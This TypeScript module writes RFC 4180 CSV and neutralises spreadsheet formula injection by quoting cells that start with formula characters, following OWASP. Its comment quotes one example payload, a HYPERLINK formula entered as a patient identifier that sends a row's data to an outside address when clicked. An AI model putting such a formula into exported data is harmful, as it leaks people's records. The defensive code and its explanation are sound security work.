/**
 * RFC 4180 CSV for every CSV the project writes (the app's results, comparison and
 * trend; the record server's audit export): quoting
 * where needed, CRLF line ends, and text cells made safe to open in a spreadsheet.
 * Numbers are written by the caller at full precision (format.ts exportNumber).
 *
 * Spreadsheet formula injection (OWASP, "CSV Injection"): a cell that starts with
 * `=`, `+`, `-`, `@`, a tab or a carriage return may be run as a formula by Excel,
 * LibreOffice or Google Sheets (`=HYPERLINK("http://…/?d="&B2,"see")` typed as a
 * patient identifier sends the row elsewhere when clicked). Such a cell gets a
 * single quote in front, as OWASP advises, and so does one where `=`, `+`, `-` or
 * `@` follows leading white space (some programs trim it before reading the cell).
 * The quote shows in the spreadsheet: the cell is text, as typed, with a `'` first.
 *
 * Numbers stay numbers: a cell that is exactly a plain decimal number as JavaScript
 * writes one (`-1.5`, `2.5e-3`, `1e+21`; optional `-`, digits with an optional
 * fraction, an optional exponent; no spaces, no `+` in front) is written as it is,
 * so a negative value is still a number in the spreadsheet. Such a cell cannot be a
 * formula. Anything else starting with `-` (`-cmd`, `-1+2`) is text and gets the quote.
 */

/** A plain decimal number, as String(number) writes a finite one: the cells left as they are. */
const PLAIN_NUMBER = /^-?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/

/** Characters a spreadsheet may read as the start of a formula (OWASP's list). */
const FORMULA_START = /^[=+\-@\t\r]/

/** The same after leading white space (a trimmed cell starting with a formula character). */
const FORMULA_AFTER_SPACE = /^\s+[=+\-@]/

/** Whether a cell would be read as a formula by a spreadsheet, and so gets a `'` in front. */
export function isFormulaLike(cell: string): boolean {
  return (FORMULA_START.test(cell) || FORMULA_AFTER_SPACE.test(cell)) && !PLAIN_NUMBER.test(cell)
}

/** One cell as a spreadsheet reads it back as text: neutralised when formula-like, then quoted where needed. */
export function csvCell(value: string): string {
  const v = isFormulaLike(value) ? `'${value}` : value
  return /[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v
}

/** The rows as CSV text, one line per row, ending with CRLF. */
export function csvText(rows: readonly (readonly string[])[]): string {
  return `${rows.map((r) => r.map(csvCell).join(',')).join('\r\n')}\r\n`
}
